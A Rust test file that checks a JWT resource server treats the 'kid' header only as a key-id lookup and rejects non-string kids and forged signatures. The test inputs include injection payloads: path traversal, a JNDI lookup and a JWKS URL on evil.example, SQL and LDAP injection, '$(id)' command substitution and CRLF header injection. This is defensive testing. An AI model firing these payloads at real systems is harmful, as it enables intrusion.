//! The `kid`: caller input that is compared with key ids and used for nothing else.

use actix_resource_server::testing::{SigningKey, TestIssuer};
use actix_resource_server::token::Algorithm;
use serde_json::json;

use crate::test_app::TestApp;
use crate::verdict::{BAD_SIGNATURE, GOOD, MALFORMED, UNKNOWN_KEY, check};

/// RFC 7515 section 4.1.4, RFC 8725 section 3.10.
#[actix_web::test]
async fn unknown_kid_finds_no_key() {
    let issuer = TestIssuer::start();
    issuer.publish(SigningKey::generate(Algorithm::Es256).with_id("Key-1"));
    let app = TestApp::with_issuer(issuer).await;
    let key = app.issuer.signing_key();
    check(&app, [("RFC 7515 4.1.4: unchanged", app.token().encode(), GOOD)]).await;
    let long = "k".repeat(10_000);
    let jwk = key.public_jwk().to_string();
    for kid in [
        "",
        "key-1",
        "Key-1 ",
        "Key-1\0",
        "Key-1\u{200b}",
        "Key",
        "/dev/null",
        "../../../../../dev/null",
        "file:///proc/sys/kernel/randomize_va_space",
        "https://evil.example/jwks.json",
        "' UNION SELECT 'secret'; --",
        "*)(uid=*))(|(uid=*",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "$(id)",
        "k\r\nX-Injected: 1",
        "\u{1b}[31mred\u{7}",
        "\u{202e}1-yeK",
        "__proto__",
        "0",
        "null",
        &long,
        &jwk,
    ] {
        let token = app.token().header("kid", kid).encode();
        check(&app, [(format!("RFC 7515 4.1.4: {kid:.40}"), token, UNKNOWN_KEY)]).await;
    }
}

#[actix_web::test]
async fn kid_must_be_a_string() {
    let app = TestApp::start().await;
    let kid = app.issuer.signing_key().id().to_owned();
    for value in [json!(null), json!(1), json!(true), json!([kid]), json!({"kid": kid})] {
        let token = app.token().header("kid", value.clone()).encode();
        check(&app, [(format!("RFC 7515 4.1.4: {value}"), token, MALFORMED)]).await;
    }
}

/// Neither a known `kid` nor a missing one makes an invalid signature acceptable.
#[actix_web::test]
async fn foreign_signature_under_a_known_kid() {
    let app = TestApp::start().await;
    let stranger = SigningKey::generate(Algorithm::Rs256);
    let forged = app.token().signed_by(&stranger);
    check(
        &app,
        [
            ("RFC 7515 5.2: under our name", forged.clone().encode(), BAD_SIGNATURE),
            (
                "RFC 7515 5.2: under the stranger's name",
                forged.clone().header("kid", stranger.id()).encode(),
                UNKNOWN_KEY,
            ),
            ("RFC 7515 5.2: under no name", forged.without_header("kid").encode(), BAD_SIGNATURE),
        ],
    )
    .await;
}
